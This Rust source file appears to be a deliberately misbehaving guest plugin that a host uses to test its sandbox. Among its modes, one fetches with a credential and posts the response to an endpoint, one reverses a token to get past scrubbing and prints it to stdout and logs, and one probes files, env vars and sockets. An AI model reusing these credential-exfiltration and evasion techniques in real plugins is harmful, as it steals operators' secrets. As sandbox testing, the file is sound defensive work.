//! A guest that misbehaves on request: config key `mode` picks one rule of the sandbox or
//! the contract to break, so the host's tests can check each is enforced. Mode `ok`
//! behaves, as a baseline. Every mode that returns at all summarises its run as `ok`.

use std::hint::black_box;

use infragraph_sdk::{
    Config, ConfigKey, Context, Credential, CredentialUse, EdgeKind, Ingestor, Manifest, NodeKind,
    Request, Summary, SyncError, ValueType, export_ingestor,
};

/// The most of a fetched body kept in the `fetched` node.
const BODY_KEPT: usize = 4 * 1024;

const THING: &str = "MisbehaveThing";

/// The size of the texts and values the `huge-*` modes hand over: 100 MB.
const HUGE: usize = 100_000_000;

struct Misbehave;

impl Ingestor for Misbehave {
    fn manifest() -> Manifest {
        Manifest::new(
            "misbehave",
            env!("CARGO_PKG_VERSION"),
            "Breaks one rule per mode",
        )
        .host("api.granted.test")
        .host("169.254.169.254")
        .host("10.1.2.3")
        .host("localhost")
        .config(ConfigKey::text("mode", "What to do wrong").required())
        .config(ConfigKey::text("target", "URL the fetch modes request"))
        .config(ConfigKey::endpoint("endpoint", "An operator-set endpoint"))
        .config(ConfigKey::text(
            "size",
            "Bytes of the value huge-property emits",
        ))
        .credential(
            // Another provider's variable, claimed as its own: what a hostile plugin
            // dropped in beside the built-ins would ask for (issue 20, point 1).
            Credential::new(
                "token",
                "SCW_SECRET_KEY",
                "Sent as X-Token",
                CredentialUse::Header,
            )
            .host("{config:endpoint}")
            .optional(),
        )
        .node(
            NodeKind::new(THING, "Whatever the guest emits")
                .prop("name", ValueType::Text, "A name")
                .prop("count", ValueType::Int, "A number"),
        )
        // (:MisbehaveThing)-[:RELATES_TO]->(:MisbehaveThing)
        .edge(EdgeKind::new(
            "RELATES_TO",
            THING,
            THING,
            "One thing to the next",
        ))
    }

    fn sync(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
        // Mistakes an author makes about the scope, before the usual one is declared.
        match config.require_text("mode")? {
            "emit-before-scope" => {
                cx.node(THING, "early").emit();
                return Ok(Summary::new("emitted before its scope"));
            }
            "scope-undeclared-label" => {
                cx.scope("NotInTheSchema", "x");
                return Ok(Summary::new("scoped by a label it does not declare"));
            }
            _ => {}
        }
        cx.scope(THING, "scope-1");
        match config.require_text("mode")? {
            "auth-error" => Err(SyncError::auth("the API answered 401: invalid token")),
            "ok" => ok(cx),
            "loop" => spin(),
            "memory" => hoard(),
            "emit-flood" => emit_forever(cx),
            "fetch" => fetch(cx, config),
            "fetch-many" => fetch_many(cx, config),
            "fs-env" => probe_the_sandbox(cx),
            "panic" => panic!("deliberate panic in sync"),
            "invalid-empty-id" => emit_one(cx, THING, "", "name"),
            "invalid-label" => emit_one(cx, "NotDeclared", "x", "name"),
            "invalid-property" => emit_one(cx, THING, "x", "BadName"),
            "malformed-batch" => {
                raw::malformed_batch();
                Ok(Summary::new("ok"))
            }
            "malformed-flood" => {
                raw::malformed_flood();
                Ok(Summary::new("ok"))
            }
            "huge-property" => {
                let size = config
                    .require_text("size")?
                    .parse()
                    .map_err(|_| SyncError::config("size must be a number of bytes"))?;
                cx.node(THING, "big").prop("name", "p".repeat(size)).emit();
                Ok(Summary::new("ok"))
            }
            "stdout" => {
                println!("hello from the guest's stdout");
                eprintln!("and from its stderr");
                ok(cx)
            }
            "state" => count_runs(cx),
            "log-flood" => {
                for i in 0..1_000_000 {
                    cx.info(format!("log line {i}"));
                }
                ok(cx)
            }
            "sync-error" => Err(SyncError::provider("provider said no")),
            // 100 MB of text where a sentence is expected.
            "huge-error" => Err(SyncError::provider("e".repeat(HUGE))),
            "huge-summary" => Ok(Summary::new("s".repeat(HUGE))),
            "partial" => {
                cx.node(THING, "t1")
                    .prop("name", "thing 1")
                    .prop("count", 1)
                    .emit();
                cx.mark_incomplete(THING, None, "zone fr-par-2 answered 403");
                Ok(Summary::new("ok"))
            }
            "emit-then-hang" => emit_then_hang(cx, config),
            "big" => big(cx, config.text("target").unwrap_or("big")),
            "exfiltrate" => exfiltrate(cx, config),
            "leak-stdio" => leak_stdio(cx, config),
            other => Err(SyncError::config(format!("unknown mode {other:?}"))),
        }
    }
}

export_ingestor!(Misbehave);

fn ok(cx: &mut Context) -> Result<Summary, SyncError> {
    for i in 1..=3 {
        cx.node(THING, format!("t{i}"))
            .prop("name", format!("thing {i}"))
            .prop("count", i)
            .emit();
    }
    for (from, to) in [("t1", "t2"), ("t2", "t3")] {
        cx.edge("RELATES_TO", (THING, "id", from), (THING, "id", to))
            .emit();
    }
    Ok(Summary::new("ok"))
}

fn spin() -> ! {
    let mut n = 0u64;
    loop {
        // black_box keeps the optimiser from proving the loop does nothing.
        n = black_box(n.wrapping_add(1));
    }
}

fn hoard() -> ! {
    let mut kept = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        // Touch every page so the memory is really committed, not just reserved.
        for byte in chunk.iter_mut().step_by(4096) {
            *byte = 1;
        }
        kept.push(black_box(chunk));
    }
}

fn emit_forever(cx: &mut Context) -> ! {
    let mut i = 0u64;
    loop {
        cx.node(THING, format!("flood-{i}"))
            .prop("count", i as i64)
            .emit();
        i += 1;
    }
}

/// Emits enough nodes for several write transactions, then waits on `target` (a URL
/// that never answers): a sync to kill while its writes are under way.
fn emit_then_hang(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
    for i in 0..50_000 {
        cx.node(THING, format!("bulk-{i}")).prop("count", i).emit();
    }
    cx.flush();
    cx.fetch(Request::get(config.require_text("target")?))?;
    Ok(Summary::new("ok"))
}

/// A graph large enough that writing it takes a while: 40,000 things in a chain, each
/// with properties, their ids prefixed with `prefix` (config `target`), so that a run
/// with another prefix replaces the whole graph.
fn big(cx: &mut Context, prefix: &str) -> Result<Summary, SyncError> {
    const N: u32 = 40_000;
    for i in 0..N {
        cx.node(THING, format!("{prefix}-{i}"))
            .prop("name", format!("thing number {i} of a big graph"))
            .prop("count", i)
            .emit();
    }
    for i in 1..N {
        let (from, to) = (format!("{prefix}-{}", i - 1), format!("{prefix}-{i}"));
        cx.edge(
            "RELATES_TO",
            (THING, "id", from.as_str()),
            (THING, "id", to.as_str()),
        )
        .emit();
    }
    Ok(Summary::new("ok"))
}

fn emit_one(cx: &mut Context, label: &str, id: &str, prop: &str) -> Result<Summary, SyncError> {
    cx.node(label, id).prop(prop, "x").emit();
    Ok(Summary::new("ok"))
}

fn fetch(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
    let target = config.require_text("target")?;
    let request = Request::get(target).header("X-Token", "{secret:token}");
    let response = cx
        .fetch(request)
        .map_err(|e| SyncError::fetch(e.to_string()))?;
    let kept = &response.body[..response.body.len().min(BODY_KEPT)];
    cx.node(THING, "fetched")
        .prop("name", String::from_utf8_lossy(kept).into_owned())
        .prop("count", u32::from(response.status))
        .emit();
    Ok(Summary::new("ok"))
}

/// Fetches `target` (a provider reflecting the credential), writes everything it got
/// back, header names included, into a node and posts it to `endpoint`/echo/body: what a
/// plugin would do with a credential it managed to see.
fn exfiltrate(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
    let target = config.require_text("target")?;
    let endpoint = config.require_text("endpoint")?;
    let response = cx
        .fetch(Request::get(target).header("X-Token", "{secret:token}"))
        .map_err(|e| SyncError::fetch(e.to_string()))?;
    let mut dump = String::new();
    for (name, value) in &response.headers {
        dump.push_str(&format!("{name}: {value}\n"));
    }
    dump.push_str(&response.text());
    // A placeholder in a body the credential may not go in is refused; the copy sent
    // out spells them `(secret:NAME}`.
    let out = dump.replace("{secret:", "(secret:");
    cx.fetch(Request::post(format!("{endpoint}/echo/body")).body(out))
        .map_err(|e| SyncError::fetch(e.to_string()))?;
    cx.node(THING, "exfiltrated").prop("name", dump).emit();
    Ok(Summary::new("ok"))
}

/// Fetches `target`, a provider that gives the credential back reversed (a form the host
/// does not scrub), recovers it and writes it everywhere a plugin's text goes: stdout,
/// stderr (upper-cased), the log, and its error.
fn leak_stdio(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
    let target = config.require_text("target")?;
    let response = cx
        .fetch(Request::get(target).header("X-Token", "{secret:token}"))
        .map_err(|e| SyncError::fetch(e.to_string()))?;
    let secret: String = response.text().trim().chars().rev().collect();
    let upper = secret.to_ascii_uppercase();
    println!("stdout: the token is {secret}");
    eprintln!("stderr: THE TOKEN IS {upper}");
    // A line longer than the host keeps, with the secret across the cut.
    println!("{}{secret}", "x".repeat(4090));
    cx.info(format!("log: {secret}"));
    Err(SyncError::provider(format!("error: {upper}")))
}

fn fetch_many(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
    let target = config.require_text("target")?;
    let outcomes = cx.fetch_many((0..20).map(|_| Request::get(target)).collect());
    for (i, outcome) in outcomes.iter().enumerate() {
        let (name, count) = match outcome {
            Ok(r) => ("ok".to_owned(), i64::from(r.status)),
            Err(e) => (e.to_string(), -1),
        };
        cx.node(THING, format!("r{i}"))
            .prop("name", name)
            .prop("count", count)
            .emit();
    }
    Ok(Summary::new("ok"))
}

/// Tries each way out of the sandbox and records, e.g., `file:err dir:err env:0 home:err
/// tcp:err`.
fn probe_the_sandbox(cx: &mut Context) -> Result<Summary, SyncError> {
    let outcome = |ok: bool| if ok { "ok" } else { "err" };
    let file = outcome(std::fs::read_to_string("/etc/hostname").is_ok());
    let dir = outcome(std::fs::read_dir("/").is_ok());
    let env = std::env::vars().count();
    let home = outcome(std::env::var("HOME").is_ok());
    let tcp = outcome(std::net::TcpStream::connect("127.0.0.1:1").is_ok());
    let probe = format!("file:{file} dir:{dir} env:{env} home:{home} tcp:{tcp}");
    cx.node(THING, "probe").prop("name", probe).emit();
    Ok(Summary::new("ok"))
}

fn count_runs(cx: &mut Context) -> Result<Summary, SyncError> {
    let previous = cx
        .state_get("counter")
        .and_then(|v| String::from_utf8(v).ok())
        .and_then(|s| s.parse::<i64>().ok())
        .unwrap_or(0);
    let count = previous + 1;
    cx.state_set("counter", Some(count.to_string().as_bytes()));
    cx.node(THING, "state").prop("count", count).emit();
    Ok(Summary::new("ok"))
}

/// Calls the contract's imports directly, past the SDK's checks.
mod raw {
    wit_bindgen::generate!({
        path: "../../../wit/since_v0.1.0",
        inline: "
            package infragraph-test:raw;
            world raw {
                import infragraph:plugin/emit@0.1.0;
            }
        ",
        world: "infragraph-test:raw/raw",
        generate_all,
    });

    use infragraph::plugin::emit;

    /// A batch that claims a million rows (its `ids` offsets) over two bytes of data:
    /// past any small record quota, and malformed besides.
    pub(crate) fn malformed_flood() {
        emit::emit_nodes(&emit::NodeBatch {
            label: super::THING.into(),
            ids: emit::Texts {
                data: "ab".into(),
                ends: vec![9; 1_000_000],
            },
            columns: vec![],
        });
    }

    /// A batch whose `ids` offsets run past their data.
    pub(crate) fn malformed_batch() {
        emit::emit_nodes(&emit::NodeBatch {
            label: super::THING.into(),
            ids: emit::Texts {
                data: "ab".into(),
                ends: vec![1, 9],
            },
            columns: vec![],
        });
    }
}
